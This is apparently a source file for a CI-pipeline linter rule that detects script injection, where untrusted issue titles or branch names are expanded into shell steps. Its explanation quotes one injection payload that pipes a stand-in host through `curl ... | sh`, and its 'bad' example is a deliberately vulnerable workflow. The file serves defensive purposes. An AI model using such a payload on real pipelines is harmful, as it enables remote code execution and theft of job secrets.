import type {Expression} from '../../languages/expression.js'
import {referencesIn} from '../../languages/expression.js'
import {
  authorityOf,
  describeAuthority,
  expressionsOfStep,
  holdsAuthority
} from '../../pipelines/authority.js'
import {passThroughEnvironment} from '../../pipelines/environment-edit.js'
import type {ExpressionUse, Pipeline} from '../../facts/pipeline.js'
import {untrustedInput} from '../../pipelines/untrusted-input.js'
import {runningSteps} from '../../pipelines/walk.js'
import type {Rule} from '../../rule.js'

/** A stranger's text that becomes part of a script. */
export const scriptInjection: Rule = {
  meta: {
    id: 'script-injection',
    summary: 'Text that a stranger chooses is expanded into a script',
    severity: 'error',
    why: 'An expression in a script is replaced before the shell starts. A title, a branch name or a commit message is whatever its author wrote: `"; curl evil.example | sh; #` in a title becomes commands of the job. They run with all that the job holds: its OIDC identity, its secrets, its service connection. Where it holds none of these it is a warning.',
    fix: 'Hand the value over in `env` and use the variable, quoted: `"$TITLE"`. The shell then takes it as one value, whatever it contains. In `actions/github-script` read `process.env` or `context.payload`.',
    securitySeverity: 9,
    references: [
      'https://docs.github.com/en/actions/concepts/security/script-injections',
      'https://learn.microsoft.com/en-us/azure/devops/pipelines/security/inputs'
    ],
    bad: {
      file: '.github/workflows/greet.yml',
      text: `on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    permissions:
      id-token: write
    steps:
      - run: ./deploy "\${{ github.event.issue.title }}"
`
    },
    good: {
      file: '.github/workflows/greet.yml',
      text: `on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    permissions:
      id-token: write
    steps:
      - env:
          TITLE: \${{ github.event.issue.title }}
        run: ./deploy "$TITLE"
`
    }
  },
  check({pipeline}, report) {
    if (!pipeline) return
    for (const job of pipeline.jobs) {
      for (const {step, file, given, through} of runningSteps(job)) {
        for (const use of expressionsOfStep(step)) {
          if (use.place !== 'script' && use.place !== 'code-input') continue
          const found = untrustedInput(use, given) ?? queueTimeParameter(use, pipeline)
          if (!found) continue
          const authority = authorityOf(job)
          const held = holdsAuthority(authority)
          const edits = passThroughEnvironment(use, environmentName(use.expression))
          const queued = 'queued' in found
          report({
            range: use.range,
            file,
            severity: queued ? 'note' : held ? 'error' : 'warning',
            message: queued
              ? `parameter ${found.source} becomes part of the script: whoever queues a run can put commands in`
              : `${found.source} becomes part of the script, so that whoever chooses it runs commands${held ? ` in a job that holds ${describeAuthority(authority)}` : ''}`,
            help: 'Hand it over in env and use the variable, quoted.',
            subject: `${step.job.id} ${found.source}`,
            related: through.map(({text, from}) => ({
              message: `runs in job '${job.id}'`,
              file: from.file,
              range: text.range()
            })),
            ...(edits
              ? {fix: {description: 'pass the value through the environment of the step', edits}}
              : {})
          })
        }
      }
    }
  }
}

/**
 * A parameter of a pipeline (not of a template) that takes any text. Only people who may queue runs
 * choose it, which is less than a stranger and more than a reviewer.
 */
function queueTimeParameter(
  {expression, syntax}: ExpressionUse,
  pipeline: Pipeline
): {source: string; queued: true} | undefined {
  if (syntax !== 'template' || pipeline.kind !== 'pipeline') return undefined
  for (const {path, flows} of referencesIn(expression)) {
    if (!flows || path[0] !== 'parameters' || path.length !== 2) continue
    const parameter = pipeline.parameters.find(({name}) => name.toLowerCase() === path[1])
    if (parameter?.type === 'string' && !parameter.limited) {
      return {source: parameter.name, queued: true}
    }
  }
  return undefined
}

/** A variable's name for a value: the last words of its path. */
function environmentName(expression: Expression): string {
  const path = referencesIn(expression)[0]?.path ?? []
  const words = path.flatMap(part => (/^[*?\d]+$/.test(part) ? [] : part.split('.')))
  return words.slice(-2).join('_').toUpperCase()
}
